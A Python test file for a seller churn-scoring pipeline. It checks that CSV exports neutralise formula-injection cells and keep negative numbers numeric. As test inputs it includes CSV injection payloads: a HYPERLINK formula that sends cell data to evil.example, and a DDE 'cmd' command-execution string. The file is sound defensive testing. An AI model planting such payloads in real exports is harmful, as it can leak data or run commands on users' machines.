"""CSV exports for people are safe to open in a spreadsheet: no text cell starts a formula
(OWASP's CSV injection rule), and numbers, negative ones included, stay numbers."""

from __future__ import annotations

import csv
from datetime import date, datetime
from pathlib import Path

import numpy as np
import polars as pl
import pytest
import xgboost as xgb

from olist_churn_dagster.lib.exports import neutralise_formulas
from olist_churn_dagster.lib.ml.digest import SCORE_COLUMNS, risk_digest
from olist_churn_dagster.lib.ml.scoring import REVENUE_FEATURE, export_per_date, score_sellers

# OWASP's formula starters: =, +, -, @, tab, carriage return.
STARTERS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = ('HYPERLINK("http://evil.example/?x="&A1,"open")', "cmd|' /C calc'!A0", "1+1")
DATES = (date(2026, 3, 1), date(2026, 3, 2))
# Features named like formulas: a model trained on them gives them as reasons.
HOSTILE_FEATURES = [f"{starter}feature {i}" for i, starter in enumerate(STARTERS)]


def hostile_features(rng: np.random.Generator) -> pl.DataFrame:
    """Two dates of sellers whose ids start with each formula starter (and ordinary ones),
    with revenue that is negative for some (refunds) and features around zero."""
    ids = [f"{s}{p}" for s in STARTERS for p in PAYLOADS] + [f"s{i}" for i in range(300)]
    n = len(ids)
    return pl.DataFrame(
        {
            "reference_date": [day for day in DATES for _ in ids],
            "seller_id": ids * len(DATES),
            REVENUE_FEATURE: rng.normal(200.0, 400.0, n * len(DATES)),
            **{name: rng.normal(0.0, 1.0, n * len(DATES)) for name in HOSTILE_FEATURES},
        }
    )


@pytest.fixture(scope="module")
def exported(tmp_path_factory: pytest.TempPathFactory) -> list[tuple[pl.DataFrame, Path]]:
    """The churn scores and the risk digest of the hostile sellers, each as the frame the
    pipeline builds and the CSVs its export writes (the scores' model version and alias are
    hostile too)."""
    rng = np.random.default_rng(11)
    features = hostile_features(rng)
    names = [REVENUE_FEATURE, *HOSTILE_FEATURES]
    matrix = features.select(names).to_numpy()
    label = (matrix[:, 1:].sum(axis=1) + rng.normal(0.0, 0.5, len(matrix)) > 0).astype(int)
    booster = xgb.train(
        {"objective": "binary:logistic", "max_depth": 3},
        xgb.DMatrix(matrix, label=label, feature_names=names),
        20,
    )
    scores = score_sellers(
        booster,
        names,
        features,
        model_version="=7+1",
        model_alias="@champion",
        scored_at=datetime(2026, 3, 3, 3, 0),
    )
    digest = risk_digest(scores.select(SCORE_COLUMNS), [DATES[1]]).sellers
    folder = tmp_path_factory.mktemp("exports")
    return [
        (frame, path)
        for name, frame in (("churn_scores", scores), ("risk_digest", digest))
        for path in export_per_date(frame, folder / name)
    ]


def csv_columns(path: Path) -> dict[str, list[str]]:
    """The cells of a CSV as a spreadsheet gets them: column name to raw cell texts."""
    with path.open(newline="") as f:
        header, *rows = list(csv.reader(f))
    return {name: [row[i] for row in rows] for i, name in enumerate(header)}


def test_no_text_cell_of_an_export_starts_a_formula(exported):
    neutralised: set[str] = set()
    for frame, path in exported:
        day = date.fromisoformat(path.stem)
        written = csv_columns(path)
        rows = frame.filter(pl.col("reference_date") == day)
        assert list(written) == rows.columns
        for name, dtype in rows.schema.items():
            if dtype != pl.String:
                continue
            for original, cell in zip(rows.get_column(name), written[name], strict=True):
                assert not cell.startswith(STARTERS), (path.name, name, cell)
                if original is not None and original.startswith(STARTERS):
                    assert cell == "'" + original, (path.name, name, cell)
                    neutralised.add(f"{name}:{original[0]}")
                else:
                    assert cell == (original or ""), (path.name, name, cell)
    for column in ("seller_id", "model_version", "model_alias", "reason_1", "reasons"):
        assert any(key.startswith(f"{column}:") for key in neutralised), column
    assert {key.split(":", 1)[1] for key in neutralised} == set(STARTERS)


def test_numbers_in_exports_stay_numbers_negative_ones_included(exported):
    negatives = 0
    for frame, path in exported:
        written = csv_columns(path)
        rows = frame.filter(pl.col("reference_date") == date.fromisoformat(path.stem))
        numeric = [name for name, dtype in rows.schema.items() if dtype.is_numeric()]
        assert {"churn_probability", "sales_at_risk"} <= set(numeric)
        for name in numeric:
            values = [float(cell) if cell else None for cell in written[name]]
            np.testing.assert_allclose(
                np.array(values, dtype=float), rows.get_column(name).to_numpy(), rtol=1e-12
            )
            negatives += sum(cell.startswith("-") for cell in written[name])
        read_back = pl.read_csv(path, try_parse_dates=True)
        assert read_back.select(numeric).schema == rows.select(numeric).schema
    assert negatives > 0, "the hostile sellers should have negative numbers to keep"


def test_only_formula_starters_are_prefixed_and_other_columns_are_untouched():
    frame = pl.DataFrame(
        {
            "text": ["=1", "+2", "-3", "@4", "\t5", "\r6", "a=1", " =1", "'=1", None],
            "number": [-1.5, 2.0, -3.0, 4.0, 5.0, 6.0, 7.0, 8.0, 9.0, None],
            "count": list(range(-5, 5)),
        }
    ).with_columns(pl.col("text").cast(pl.Categorical).alias("category"))
    safe = neutralise_formulas(frame)
    expected = ["'=1", "'+2", "'-3", "'@4", "'\t5", "'\r6", "a=1", " =1", "'=1", None]
    assert safe.get_column("text").to_list() == expected
    assert safe.get_column("category").to_list() == expected
    assert safe.select("number", "count").equals(frame.select("number", "count"))
